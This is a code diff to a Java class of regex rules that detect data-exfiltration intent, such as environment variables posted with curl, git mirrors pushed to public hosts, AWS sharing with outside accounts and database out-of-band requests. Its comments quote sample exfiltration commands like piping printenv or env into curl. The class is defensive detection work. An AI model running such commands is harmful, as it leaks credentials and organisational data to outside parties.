@@ -863,25 +863,29 @@ final class ExfilIntentRules {
         r.add(new Rule("attachment_to_free_mailbox", PERSONAL, 0.6, "attachments attachment attach attached"
                         + " attachment_paths attachment_urls attach_files",
                 toFree + "[^{}]{0,300}?" + attached + "|" + attached + "[^{}]{0,300}?" + toFree, 520, 520));
-        // (c) a repository's mirror pushed to a public code host: "git push --mirror https://bitbucket.org/x/y.git"
+        // (c) a repository of the organisation's own (self-hosted) git server mirrored to a public code host: "git clone
+        // --mirror git@git.corp.example:team/x.git && cd x.git && git push --mirror https://bitbucket.org/someone/x.git"
+        // (a move between two public hosts, a migration, is not this)
+        String publicHost = "(?:github\\.com|gitlab\\.com|bitbucket\\.org|codeberg\\.org|gitee\\.com)";
         r.add(new Rule("mirror_pushed_to_public_host", SYNC, 0.45, "mirror",
-                "\\bgit\\W{1,3}push\\W{1,3}(?:[^\\n|;&]{0,40}?\\s)?--mirror\\W{1,3}(?:https?://(?:[^@\\s/]{1,60}@)?(?:www\\.)?|git@)"
-                        + "(?:github\\.com|gitlab\\.com|bitbucket\\.org|codeberg\\.org|gitee\\.com)[/:][\\w.-]+", 60, 120)
-                .needsText("push"));
+                "\\bgit\\W{1,3}clone\\W{1,3}(?:[^\\n|;&]{0,40}?\\s)?--(?:mirror|bare)\\W{1,3}(?:\\w{2,8}://)?"
+                        + "(?![\\w.@-]{0,120}" + publicHost + ")[\\w.@-]{1,120}[:/][^\\n]{0,300}?\\bgit\\W{1,3}push\\W{1,3}"
+                        + "(?:[^\\n|;&]{0,40}?\\s)?--mirror\\W{1,3}(?:https?://(?:[^@\\s/]{1,60}@)?(?:www\\.)?|git(?:@|a))"
+                        + publicHost + "[/:][\\w.-]+", 60, 420).needsText("push"));
         // (d) a cloud resource shared with or replicated into an account the text calls not ours: a bucket policy's
         // principal, a replication destination, a snapshot's user ids ("# my side-project account, not ours")
-        String notOurs = "(?:\\bnot ours\\b|\\bnot (?:an? |our |the company's )?(?:[\\w-]+ )?(?:account|company|tenant|org\\w*)\\b"
+        String notOurs = "(?:\\bnot ours\\b|\\bnot (?:the |our )?company's\\b|\\bnot (?:an? |our |the company's )?(?:[\\w-]+ )?(?:account|company|tenant|org\\w*)\\b"
                 + "|\\bside[ -]?projects?\\b|\\bmy (?:own |personal |private )(?:aws )?account\\b|\\bniet van ons\\b"
                 + "|\\bnicht unser\\w*|\\bpas (?:a nous|le notre)\\b|\\bno (?:es )?nuestr\\w*|\\bnon (?:e )?nostr\\w*)";
         r.add(new Rule("shared_to_account_not_ours", SYNC, 0.6, "aws",
                 "\\baws\\b[\\s\\S]{0,200}?\\b(?:iam|principal|aws|account(?:_?id)?|destination|grantee|user-ids|--user-ids|target-account|values-to-add)"
-                        + "\\W{1,12}(?:arn:aws:iam::)?\\d{12}\\b[\\s\\S]{0,300}?" + notOurs, 4, 540)
-                .needsText("arn:aws"));
+                        + "\\W{1,12}(?:arn:aws:iam::)?\\d{12}\\b[\\s\\S]{0,300}?" + notOurs, 4, 540));
         // (e) the environment's variables posted by a command: curl -d "$(env | grep -i token)" https://x, "printenv |
         // curl --data-binary @- https://x", wget --post-data="$(env)"
         r.add(new Rule("environment_posted", SMUGGLE, 0.45, "env printenv environ",
-                "\\b(?:curl|wget|nc|ncat|xh|http|https|invoke-webrequest|invoke-restmethod|iwr|irm)\\b[^\\n]{0,240}?(?:\\$\\(|`)"
-                        + "\\s*(?:env|printenv|cat /proc/self/environ)\\b(?![^\\n]{0,200}?(?:localhost|127\\.0\\.0\\.1))"
+                "\\b(?:curl|wget|nc|ncat|xh|http|https|invoke-webrequest|invoke-restmethod|iwr|irm)\\b(?![^\\n]{0,400}?(?:localhost"
+                        + "|127\\.0\\.0\\.1|\\[::1\\]))[^\\n]{0,240}?(?:\\s-d|\\s--data(?:-binary|-raw|-urlencode)?|\\s--post-data"
+                        + "|\\s-f|\\s--form|\\s-body)[\\s=]{0,3}[\"']?(?:\\$\\(|`)\\s*(?:env|printenv|cat /proc/self/environ)\\b"
                         + "|\\b(?:env|printenv|cat /proc/self/environ)\\b[^\\n|]{0,80}\\|[^\\n]{0,80}?\\b(?:curl|wget|nc|ncat)\\b"
                         + "[^\\n]{0,160}?(?:@-|\\s-t\\s*-|https?://(?!localhost|127\\.))", 260, 260));
         // (f) a query's rows sent out of band by the database: UTL_HTTP.REQUEST('http://x/?d=' || (SELECT ...)),
@@ -889,11 +893,11 @@ final class ExfilIntentRules {
         r.add(new Rule("database_out_of_band", SMUGGLE, 0.6, "utl_http utl_inaddr dbms_ldap httpuritype xp_dirtree"
                         + " xp_fileexist program load_file outfile",
                 "\\b(?:utl_http\\.request(?:_pieces)?|utl_inaddr\\.get_host_(?:address|name)|dbms_ldap\\.init|httpuritype)"
-                        + "\\s*\\(\\s*'[^'\\n]{0,120}'\\s*\\|\\|"
+                        + "\\s*\\(\\s*(?:'[^'\\n]{0,120}'|\\(\\s*select\\b[^;]{0,200}?\\))\\s*\\|\\|"
                         + "|\\b(?:master\\.\\.)?xp_(?:dirtree|fileexist|subdirs)\\s*\\(?\\s*'\\\\\\\\[^'\\n]{0,120}'\\s*\\+"
                         + "|\\bcopy\\s*\\(\\s*select\\b[^;]{0,300}?\\)\\s*to\\s+program\\s+'\\s*(?:curl|wget|nc|ncat|bash|sh)\\b"
                         + "|\\bload_file\\s*\\(\\s*concat\\s*\\(\\s*'\\\\\\\\\\\\\\\\"
-                        + "|\\binto\\s+(?:out|dump)file\\s+'\\\\\\\\\\\\\\\\", 20, 360));
+                        + "|\\binto\\s+(?:out|dump)file\\s+'\\\\\\\\\\\\\\\\", 360, 360));
         // (g) a mail's headers from the work address to the same person's free mailbox, with an attachment
         // ("From: s.jansen@corp / To: sandra.jansen.home@hotmail.com / Attached: ..."; the data named near)
         r.add(new Rule("mail_header_to_own_mailbox", PERSONAL, 0.6, "attached attachments attachment bijlage bijlagen"
@@ -904,12 +908,12 @@ final class ExfilIntentRules {
                         + "|pj|adjuntos?|allegat[oi])\\s*:", 700, 20));
         // (h) the writer's new employer as the recipient, in six languages ("so I can give it to my new employer",
         // "per il mio nuovo datore di lavoro", "para mi nueva empresa", "fur meinen neuen Arbeitgeber")
-        r.add(new Rule("to_future_employer", OUTSIDE, 0.45, "new nuovo nuova nuevo nueva nouvel nouveau nouvelle neuen"
-                        + " neuer neue nieuwe",
+        // (anchored on the employer nouns, not on "new": "my new company" in English prose is left to the older rules)
+        r.add(new Rule("to_future_employer", OUTSIDE, 0.45, "employer werkgever arbeitgeber employeur empleador datore",
                 "\\b" + POSS + " (?:new|nuovo|nuova|nuevo|nueva|nouvel|nouveau|nouvelle|neuen|neuer|neue|nieuwe) (?:employer"
-                        + "|company|firm|job|datore di lavoro|azienda|ditta|empleador|empresa|trabajo|employeur|entreprise|boite"
-                        + "|arbeitgeber|firma|werkgever|baan|bedrijf|werkplek)\\b", 40, 60)
-                .needs("employer company firm job datore azienda ditta empleador empresa trabajo employeur entreprise"
-                        + " boite arbeitgeber firma werkgever baan bedrijf werkplek"));
+                        + "|datore di lavoro|empleador|employeur|arbeitgeber|werkgever)\\b", 40, 20));
+        r.add(new Rule("to_future_employer", OUTSIDE, 0.45, "empresa azienda entreprise bedrijf",
+                "\\b" + POSS + " (?:nuovo|nuova|nuevo|nueva|nouvel|nouveau|nouvelle|nieuwe) (?:azienda|empresa|entreprise"
+                        + "|bedrijf)\\b", 40, 20));
     }
 }
